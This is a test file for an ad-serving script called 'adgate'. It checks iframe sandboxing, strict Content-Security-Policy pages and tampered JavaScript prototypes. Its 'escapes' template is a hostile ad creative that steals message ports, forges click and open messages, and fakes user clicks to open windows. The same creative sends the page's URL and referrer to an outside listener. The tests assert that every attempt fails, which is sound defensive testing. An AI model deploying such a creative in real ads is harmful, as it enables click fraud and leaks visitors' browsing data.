import { beforeAll, describe, expect, it } from '@jest/globals';
import { type AdPage, type AdPages, inAd, listen, startAdPages, urlOf } from '../support/ad-page';
import { send } from '../support/app';
import { aPng } from '../support/campaigns';
import { aDocument, anMp4 } from '../support/contents';

let pages: AdPages;
/** Where a document wants to tell something. */
let spy: Awaited<ReturnType<typeof listen>>;
const visits: string[] = [];
/** True where that place writes on and on. */
let isEndless = false;

/** Attempts of a document. */
const escapes = (url: string) => `
  const stolen = [];
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (...args) { stolen.push(this); post.apply(this, args); };
  const { port1, port2 } = new MessageChannel();
  parent.postMessage({ type: 'adgate:open' }, '*', [port2]);
  // Browsers make a trusted click of this.
  document.body.insertAdjacentHTML('beforeend', '<label id="label"><input type="checkbox" hidden></label>');
  // Once more, and it would go.
  let thefts = 2;
  setInterval(() => {
    if (thefts-- > 0) focus();
    document.getElementById('label').click();
    dispatchEvent(new MouseEvent('mousedown', { bubbles: true }));
    for (const port of [port1, ...stolen]) post.call(port, 1);
    for (const data of [{ type: 'adgate:click' }, { type: 'adgate:open' }, null, 7]) parent.postMessage(data, '*');
  }, 20);
  const told = [document.baseURI, document.referrer, location.href].join(' ');
  new Image().src = '${url}/image?' + told;
  fetch('${url}/fetch?' + told).catch(() => {});
  const script = document.createElement('script');
  script.src = '${url}/script';
  document.head.append(script);
  document.body.dataset.told = told;
  document.getElementById('go').onclick = (event) => {
    event.stopPropagation();
    // By another name: uploads make clicks of plain ones.
    const place = location;
    place.href = '${url}/frame';
  };`;

beforeAll(async () => {
  pages = await startAdPages();
  spy = await listen((req, res) => {
    visits.push(String(req.url));
    res.setHeader('Content-Type', 'text/html').write('<p id="elsewhere">Elsewhere');
    if (!isEndless) res.end();
  });
  const body = `<style>* { margin: 0 } b { display: block; height: 30px }</style><b>Buy</b><b id="go">Go</b><script>${escapes(urlOf(spy))}</script>`;
  const head = '<meta name="referrer" content="unsafe-url">';
  await pages.createAd(aDocument(body, head), { type: 'html', scope: '468x60' });
  await pages.createAd(aDocument('<b id="offer">Offer</b>'), { type: 'html', scope: '728x90' });
  await pages.createAd(aPng('300x250'), { type: 'image' });
  await pages.createAd(anMp4('1920x1080'), { type: 'video', scope: '1920x1080' });
});

describe('a hostile document', () => {
  const onPage = [10, 20] as const;
  const onBuy = [10, 110] as const;
  const onGo = [10, 135] as const;

  /** Steps into no frame: what looks into one by the browser's debugger passes there for the visitor. */
  async function openHostile(): Promise<AdPage & { readonly windows: readonly string[] }> {
    const [id = ''] = await pages.createPlacements('468x60');
    const style = '<style>* { margin: 0 } h1 { height: 100px }</style>';
    const path = `/secret-${visits.length}-${id}?visitor=7`;
    const windows: string[] = [];
    const opened = await pages.open(`${style}<h1>News</h1>${await pages.embedCode(id)}`, { path });
    pages.context.on('page', (popup) => windows.push(popup.url()));
    await opened.event('filled');
    await opened.page.waitForTimeout(300);
    return { ...opened, windows };
  }

  it('opens no window by itself, nor by a click that the page was meant with', async () => {
    const { page, windows, events } = await openHostile();
    const errors: Error[] = [];
    page.on('pageerror', (error) => errors.push(error));
    await page.mouse.click(...onPage);
    await page.waitForTimeout(500);
    expect(windows).toEqual([]);
    expect(events()).not.toContain('click ');
    expect(errors).toEqual([]);
  });

  it('opens one window by a click in it', async () => {
    const { page, event, events } = await openHostile();
    await page.mouse.click(...onBuy);
    await event('click');
    await page.waitForTimeout(500);
    expect(events().filter((told) => told === 'click ')).toHaveLength(1);
  });

  it('opens a window by a click in it right behind one on the page', async () => {
    const { page, event } = await openHostile();
    await page.mouse.click(...onPage);
    await page.keyboard.press('a');
    await page.mouse.click(...onBuy);
    await event('click');
  });

  it('loads nothing and learns nothing of the page', async () => {
    const { page } = await openHostile();
    expect(visits).toEqual([]);
    const frame = page.frameLocator('[data-adgate] iframe');
    const told = await frame.locator('body').getAttribute('data-told');
    expect(told).toMatch(/^data:/);
    expect(told).not.toContain('127.0.0.1:');
    expect(told).not.toContain('secret');
  });

  it('goes when it leads its frame elsewhere', async () => {
    const { page, event } = await openHostile();
    await page.mouse.click(...onGo);
    expect(await event('error')).toMatchObject({ reason: 'left' });
    expect(await page.evaluate(inAd('iframe'))).toBeNull();
    expect(visits).toEqual(['/frame']);
  });

  it('goes though what it leads to never ends', async () => {
    isEndless = true;
    const { page, event } = await openHostile();
    await page.mouse.click(...onGo);
    expect(await event('error')).toMatchObject({ reason: 'left' });
    expect(await page.evaluate(inAd('iframe'))).toBeNull();
  });
});

describe('a page with a strict policy', () => {
  const nonce = 'r4nd0m';
  const policy = (...more: readonly string[]) => ({
    'Content-Security-Policy': [
      "default-src 'none'",
      `script-src 'nonce-${nonce}' 'strict-dynamic'`,
      `connect-src ${pages.app.url}`,
      "base-uri 'none'",
      "require-trusted-types-for 'script'",
      'trusted-types adgate',
      ...more,
    ].join('; '),
  });
  const page = (id: string, size = '300x250') =>
    `<div id="box" data-adgate="${id}" data-size="${size}"><i>House</i></div><script async nonce="${nonce}" src="${pages.app.url}/tag/v1.js"></script>`;

  it('has its image, with no more than a nonce and the server in connect-src', async () => {
    const [id = ''] = await pages.createPlacements('300x250');
    const opened = await pages.open(page(id), { headers: policy() });
    await opened.event('view');
    expect(await opened.page.evaluate(`${inAd('canvas')}.width`)).toBe(300);
    expect(await opened.page.locator('#box').boundingBox()).toMatchObject({ height: 250 });
  });

  it('has its image as an image where blob: is allowed', async () => {
    const [id = ''] = await pages.createPlacements('300x250');
    const opened = await pages.open(page(id), { headers: policy('img-src blob:') });
    await opened.event('filled');
    expect(await opened.page.evaluate(`${inAd('img')}.alt`)).toBe('Ad');
  });

  it('keeps its own content, and nothing counts, where it allows no frame', async () => {
    const [id = ''] = await pages.createPlacements('728x90');
    const opened = await pages.open(page(id, '728x90'), { headers: policy() });
    expect(await opened.event('error')).toMatchObject({ reason: 'blocked' });
    await opened.page.locator('#box i').waitFor();
    await opened.page.waitForTimeout(1500);
    expect(opened.events()).toEqual(['error box']);
    expect(opened.requests('/view')).toEqual([]);
  });

  it('has documents whose scripts its policy stops, and their clicks are taken above them', async () => {
    const [id = ''] = await pages.createPlacements('728x90');
    const opened = await pages.open(page(id, '728x90'), { headers: policy('frame-src data:') });
    const { caseId } = await opened.event('filled');
    const [landing] = await Promise.all([
      pages.context.waitForEvent('page'),
      opened.page.locator('#box').click(),
    ]);
    await landing.waitForURL(/\/landing/);
    expect(new URL(landing.url()).searchParams.get('cid')).toBe(caseId);
  });

  it('has the pinned file by its integrity alone', async () => {
    const { core } = (await send(`${pages.app.url}/tag/v1.json`)).body;
    const [id = ''] = await pages.createPlacements('300x250');
    const headers = {
      'Content-Security-Policy': `default-src 'none'; script-src '${core.integrity}'; connect-src ${pages.app.url}; img-src blob:`,
    };
    const script = `<script async src="${pages.app.url}/tag/${core.file}" integrity="${core.integrity}" crossorigin="anonymous"></script>`;
    const body = `<div id="box" data-adgate="${id}"></div>${script}`;
    await (await pages.open(body, { headers })).event('filled');
  });
});

describe('a page that is not as a page should be', () => {
  it('has its ads though other scripts have given every object members', async () => {
    const [id = ''] = await pages.createPlacements('300x250');
    const names = 'size name refresh pop collapse legacy lazy label types publisher consent minRpm';
    const before = `
      for (const name of ${JSON.stringify(names.split(' '))})
        Object.prototype[name] = () => 'odd';
      Array.prototype.toJSON = () => 'odd';`;
    const opened = await pages.open(`<div id="box" data-adgate="${id}"></div>${pages.tag}`, {
      before,
    });
    expect(await opened.event('filled')).toMatchObject({ placementId: id });
    await opened.event('view');
    expect(opened.finds).toHaveLength(1);
  });

  it('has its ads beside elements that cannot have any, and is told of those', async () => {
    const [id = ''] = await pages.createPlacements('300x250');
    const odd = [
      `<a id="a" data-adgate="${id}">Link</a>`,
      `<div id="b" data-adgate=""></div>`,
      `<div id="c" data-adgate="banana"></div>`,
      `<div id="d" data-adgate="${id}" data-lazy="far"></div>`,
      `<div id="e" data-adgate="${id}" data-types="neon"></div>`,
      `<div id="f" data-adgate="0x50"></div>`,
    ];
    const { page, event } = await pages.open(
      `${odd.join('')}<div id="box" data-adgate="${id}"></div>${pages.tag}`,
    );
    await event('filled', 'box');
    for (const at of ['a', 'd'])
      expect(await event('error', at)).toMatchObject({ reason: 'blocked' });
    expect(await event('empty', 'e')).toMatchObject({ reason: 'no-fill' });
    for (const at of ['b', 'c', 'f'])
      expect(await event('error', at)).toMatchObject({ reason: 'network' });
    expect(await page.locator('#a').textContent()).toBe('Link');
  });
});

it('counts no video that the page’s policy does not play', async () => {
  const headers = { 'Content-Security-Policy': "media-src 'none'" };
  const body = `<div id="box" data-adgate="640x360"></div>${pages.tag}`;
  const { event, requests } = await pages.open(body, { headers });
  expect(await event('error')).toMatchObject({ reason: 'blocked' });
  expect(requests('/view')).toEqual([]);
});
